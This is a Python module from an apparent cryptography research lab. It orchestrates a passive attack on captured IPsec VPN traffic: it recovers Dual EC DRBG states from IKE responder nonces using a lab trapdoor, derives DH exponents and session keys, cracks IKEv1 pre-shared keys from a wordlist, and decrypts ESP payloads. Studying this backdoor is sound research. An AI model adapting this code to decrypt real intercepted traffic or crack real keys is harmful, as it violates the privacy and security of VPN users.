"""The passive decryptor pipeline: capture → states → DH exponents → keys → plaintext.

Reads only the capture; never sends a packet.  Round 1 anchors the PRNG walk
at every 32-byte phase-1 responder nonce (IKEv1 MM4/AM2, IKEv2 IKE_SA_INIT)
in capture order: a nonce that an earlier state's walk predicts costs nothing,
the others are swept (2^16, in parallel, cached per nonce; see
:mod:`~kleptolab.attack.anchoring`).  Every KE in the capture is then matched
against every walk (multi-connection attack).  Later rounds do the same for
child-exchange nonces (Quick Mode, CREATE_CHILD_SA).  Then ESP is decrypted
with ICVs verified.

This module holds the attack on one gateway's IKE SAs (:func:`attack_sessions`);
:mod:`kleptolab.attack.pipeline` runs it per gateway over many captures, on an
engine, and streams the ESP stage.  :func:`decrypt_capture` is the one-capture,
in-memory entry point.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

from kleptolab.attack.anchoring import (
    Recovery,
    Sighting,
    Sweep,
    anchor_nonces,
)
from kleptolab.attack.errors import AttackFailure
from kleptolab.attack.forward import DEFAULT_WINDOW, ForwardWindow, Lineage
from kleptolab.attack.ikev1_attack import Ikev1Handshake, Ikev1Outcome, attack_ikev1, parse_ikev1
from kleptolab.attack.ikev2_attack import Ikev2Handshake, Ikev2Outcome, attack_ikev2, parse_ikev2
from kleptolab.attack.ikev2_rekey import adopt_rekeys
from kleptolab.attack.outputs import EspSaRow, Ikev1Row, Ikev2Row
from kleptolab.attack.prng_walk import PrngWalker
from kleptolab.attack.recovery import NONCE_SIZE, NonceCache
from kleptolab.capture import IkePacket

if TYPE_CHECKING:
    from kleptolab.attack.engine import Engine
    from kleptolab.drbg.trapdoor import Trapdoor

__all__ = ["NOT_DUAL_EC", "WRONG_Q", "DecryptOptions", "DecryptResult", "GatewayAttack", "Rekeyable",
           "attack_sessions", "decrypt_capture", "parse_session"]

Progress = Callable[[str, int, int], None]
Handshake = Ikev1Handshake | Ikev2Handshake
Outcome = Ikev1Outcome | Ikev2Outcome

NOT_DUAL_EC = ("responder nonce is {n} bytes: not Dual EC output (ScreenOS 6.1 / X9.31 draws 20 bytes) "
               "— no state recovered")
WRONG_Q = ("no state recovered: no candidate state predicts either peer's KE — the firmware's Q is not "
           "the lab trapdoor's Q (patched/Juniper Q, e.g. 6.3.0r21 or 6.2.0r14)")
MAX_ROUNDS = 4


@dataclass(frozen=True)
class DecryptOptions:
    """Tunables of one run (``psk_wordlist``: IKEv1 PSK guesses, tried in order;
    ``window``: calls walked forward from a gateway's stored states before a sweep)."""

    steps: int = 64
    exponent_bytes: int = 20
    psk: bytes | None = None
    quirk_shifts: int = 0
    psk_wordlist: tuple[bytes, ...] = ()
    window: int = DEFAULT_WINDOW
    ike_ports: frozenset[int] = frozenset()
    """UDP ports to read as IKE/NAT-T whatever their content (IKE elsewhere is found by content)."""


@dataclass
class DecryptResult:
    """Everything one run produced (written out by :func:`kleptolab.attack.outputs.write_outputs`)."""

    report: dict[str, Any]
    ikev1: list[Ikev1Row] = field(default_factory=list)
    ikev2: list[Ikev2Row] = field(default_factory=list)
    esp: list[EspSaRow] = field(default_factory=list)
    plaintext: list[tuple[float, bytes]] = field(default_factory=list)


def _sid(spis: tuple[bytes, bytes]) -> str:
    return f"{spis[0].hex()}:{spis[1].hex()}"


def parse_session(
    spis: tuple[bytes, bytes], group: list[IkePacket]
) -> tuple[dict[str, Any], Handshake | None]:
    """The report entry of one IKE SA and its handshake (None: not attackable, entry says why)."""
    first = group[0]
    version = first.version
    entry: dict[str, Any] = {"id": _sid(spis), "version": version, "initiator": first.datagram.src,
                             "responder": first.datagram.dst, "messages": len(group),
                             "first_frame": first.datagram.index}
    try:
        h: Handshake = parse_ikev1(entry["id"], group) if version == 1 else parse_ikev2(entry["id"], group)
    except AttackFailure as exc:
        entry["failure"] = str(exc)
        return entry, None
    if isinstance(h, Ikev1Handshake):
        entry.update(exchange="Aggressive Mode" if h.aggressive else "Main Mode", proposal=h.suite.describe(),
                     auth=h.suite.auth_name)
    else:
        entry.update(exchange="IKE_SA_INIT/IKE_AUTH", proposal=h.suite.describe())
    entry.update(nr=h.nr.hex(), nonce_bytes=len(h.nr))
    if len(h.nr) != NONCE_SIZE:
        entry["failure"] = NOT_DUAL_EC.format(n=len(h.nr))
        return entry, None
    return entry, h


@dataclass
class GatewayAttack:
    """What :func:`attack_sessions` found for one gateway's handshakes."""

    outcomes: dict[str, Outcome]
    recoveries: dict[bytes, tuple[str, Recovery]]  # nonce -> (session, how)
    walker: PrngWalker
    lineage: Lineage
    timings: dict[str, float]
    session_s: dict[str, float]  # attack time per IKE SA
    adopted: list[Handshake] = field(default_factory=list)  # IKE SAs found by following rekeys


def attack_sessions(
    handshakes: list[Handshake], q: tuple[int, int], sweep: Sweep, cache: NonceCache,
    options: DecryptOptions = DecryptOptions(), progress: Progress | None = None,
    window: ForwardWindow | None = None, lineage: Lineage | None = None,
    rekeyable: Rekeyable | None = None,
) -> GatewayAttack:
    """Anchor the PRNG walk at every responder nonce of ``handshakes`` (one gateway), then attack each SA.

    ``sweep`` recovers the states of nonces nothing predicts; ``window`` holds the
    gateway's stored states (walked before any sweep); ``lineage`` receives the
    draw position of every state recovered.  ``rekeyable``: the IKE SAs without an
    IKE_SA_INIT of their own (message groups and report entries), which an IKEv2
    IKE SA rekey (RFC 7296 §2.18) found in a parent's messages turns into more SAs
    to attack, round after round (:func:`~kleptolab.attack.ikev2_rekey.adopt_rekeys`).
    """
    rekeyable = rekeyable if rekeyable is not None else Rekeyable()
    handshakes = list(handshakes)
    adopted_ids: set[str] = set()
    adopted: list[Handshake] = []
    walker = PrngWalker(q, options.steps, options.exponent_bytes)
    lineage = lineage if lineage is not None else Lineage()
    timings: dict[str, float] = {"recovery_s": 0.0, "sweep_s": 0.0}
    walked: set[bytes] = set()
    recoveries: dict[bytes, tuple[str, Recovery]] = {}

    def timed_sweep(nonces: list[bytes]) -> dict[bytes, list[int]]:
        t0 = time.perf_counter()
        states = sweep(nonces)
        timings["sweep_s"] += time.perf_counter() - t0
        return states

    def recover(sightings: list[Sighting]) -> None:
        def tick(done: int, total: int) -> None:
            if progress is not None:
                progress("recovering Dual EC states", done, total)

        t0 = time.perf_counter()
        walked.update(s.nonce for s in sightings)
        owner: dict[bytes, str] = {}
        for s in sorted(sightings, key=lambda s: s.order):
            owner.setdefault(s.nonce, s.session)
        # one gateway's nonces: one at a time is the fewest sweeps (gateways run in parallel)
        found = anchor_nonces(sightings, walker, timed_sweep, cache, tick, window, lineage, grow=False)
        recoveries.update({n: (owner[n], r) for n, r in found.items()})
        timings["recovery_s"] += time.perf_counter() - t0

    # capture order: the walk from an early state predicts later nonces, which then cost no sweep
    recover([Sighting(h.sid, "IKEv1 phase-1 Nr" if isinstance(h, Ikev1Handshake) else "IKE_SA_INIT Nr",
                      h.nr, h.nr_order) for h in sorted(handshakes, key=lambda h: h.nr_order)])
    outcomes: dict[str, Outcome] = {}
    session_s: dict[str, float] = {}
    cracked: dict[str, tuple[bytes, dict[str, object]]] = {}
    todo = list(handshakes)
    t_attack, r_before = time.perf_counter(), timings["recovery_s"]
    # each IKE SA rekey may need a round of its own
    for _round in range(MAX_ROUNDS + len(handshakes) + len(rekeyable.groups)):
        extra: list[Sighting] = []
        rekeyed: list[Handshake] = []
        for i, h in enumerate(todo):
            if progress is not None:
                progress("attacking IKE SAs", i, len(todo))
            t0 = time.perf_counter()
            out = _attack(h, walker, options, cracked)
            outcomes[h.sid] = out
            session_s[h.sid] = round(time.perf_counter() - t0, 4)
            if isinstance(out, Ikev2Outcome):
                rekeyed += adopt_rekeys(out, rekeyable.groups, rekeyable.entries, rekeyable.new_entries,
                                        adopted_ids)
            label = "Quick Mode Nr" if isinstance(h, Ikev1Handshake) else "CREATE_CHILD_SA Nr"
            for n, o in out.child_nonces:
                if len(n) == NONCE_SIZE and n not in walked:
                    walked.add(n)
                    extra.append(Sighting(h.sid, label, n, o))
        if progress is not None:
            progress("attacking IKE SAs", len(todo), len(todo))
        handshakes += rekeyed
        adopted += rekeyed
        if not extra and not rekeyed:
            break
        if extra:
            recover(extra)  # a child nonce a walk predicts costs nothing; the others are swept
        retry = {e.session for e in extra} | {h.sid for h in rekeyed}
        todo = [h for h in handshakes if h.sid in retry]
    timings["attack_s"] = time.perf_counter() - t_attack - (timings["recovery_s"] - r_before)
    for h in handshakes:  # a walk that predicts another connection's nonce confirms its state
        walker.find_output(h.nr)
    return GatewayAttack(outcomes, recoveries, walker, lineage, timings, session_s, adopted)


@dataclass
class Rekeyable:
    """IKE SAs a gateway's capture(s) show without an IKE_SA_INIT: candidates for rekeyed SAs.

    ``groups``: their messages by (SPIi, SPIr); ``entries``: their report entries by
    session id (updated in place when adopted); ``new_entries`` receives the entries
    of rekeyed SAs that had none.
    """

    groups: dict[tuple[bytes, bytes], list[IkePacket]] = field(default_factory=dict)
    entries: dict[str, dict[str, Any]] = field(default_factory=dict)
    new_entries: list[dict[str, Any]] = field(default_factory=list)


def report_session(
    h: Handshake, entry: dict[str, Any], found: GatewayAttack, cache: NonceCache
) -> Outcome:
    """Fill ``entry`` (report.json) for ``h`` from the gateway attack; returns its outcome."""
    out = found.outcomes[h.sid]
    entry["time_s"] = found.session_s.get(h.sid, 0.0)
    _report(h, out, entry, found.walker, cache)
    rec = found.recoveries.get(h.nr)
    if rec is not None:
        entry["recovered_by"] = rec[1].describe()
        entry["recovery"] = rec[1].to_json()
    return out


def decrypt_capture(
    capture: Path, trapdoor: Trapdoor, engine: Engine, cache: NonceCache,
    options: DecryptOptions = DecryptOptions(), progress: Progress | None = None,
) -> DecryptResult:
    """Run the whole attack on ``capture`` (plaintext kept in memory); ``ValueError`` only
    if it is not a capture at all.  ``cache``: a :class:`~kleptolab.attack.store.StateStore`
    (or any :class:`~kleptolab.attack.recovery.NonceCache`)."""
    from kleptolab.attack.engine import LocalEngine
    from kleptolab.attack.pipeline import decrypt_many

    try:
        run = decrypt_many([capture], trapdoor, engine, cache, options, progress=progress)
    finally:
        if isinstance(engine, LocalEngine):
            engine.close()  # no worker processes left behind (the pool restarts on the next use)
    one = run.captures[0]
    return DecryptResult(one.report, one.ikev1, one.ikev2, one.esp, one.plaintext or [])


def _attack(
    h: Handshake, walker: PrngWalker, options: DecryptOptions, cracked: dict[str, tuple[bytes, dict[str, object]]]
) -> Outcome:
    """Attack one SA; a PSK cracked in an earlier round is reused, not cracked again."""
    if isinstance(h, Ikev2Handshake):
        return attack_ikev2(h, walker)
    if h.sid in cracked:
        psk, info = cracked[h.sid]
        out = attack_ikev1(h, walker, psk)
        out.psk = info
        return out
    out = attack_ikev1(h, walker, options.psk, options.psk_wordlist)
    if out.psk is not None and out.psk.get("source") == "cracked" and out.keys is not None:
        cracked[h.sid] = (out.psk_value, out.psk)
    return out


def _report(h: Handshake, out: Outcome, entry: dict[str, Any], walker: PrngWalker, cache: NonceCache) -> None:
    entry["candidate_states"] = [f"{s:064x}" for s in cache.get(h.nr) or []]
    entry["confirmed_states"] = {f"{a.state:064x}": walker.confirmations(a)
                                 for a in walker.anchors_for(h.nr) if walker.confirmations(a)}
    if isinstance(out, Ikev1Outcome):
        entry["auth_check"] = out.auth_check
        if out.psk is not None:
            entry["psk"] = out.psk
    if out.dh is None:
        entry["failure"] = WRONG_Q
        return
    entry["dh_draw"] = out.dh.draw.describe()
    entry["unlocked_by"] = out.dh.draw.anchor.session
    if out.failure is not None:
        entry["failure"] = out.failure
        return
    assert out.keys is not None
    keys = {k: v.hex() for k, v in out.keys.as_dict().items()}
    if isinstance(out, Ikev1Outcome):
        keys["g_xy"] = out.g_xy.hex()
    entry["keys"] = keys
    entry["ike_messages_decrypted"] = out.decrypted
    entry["ike_messages_failed"] = out.undecrypted
    entry["ike_messages_retransmitted"] = out.retransmitted
    entry["child_sas"] = out.children
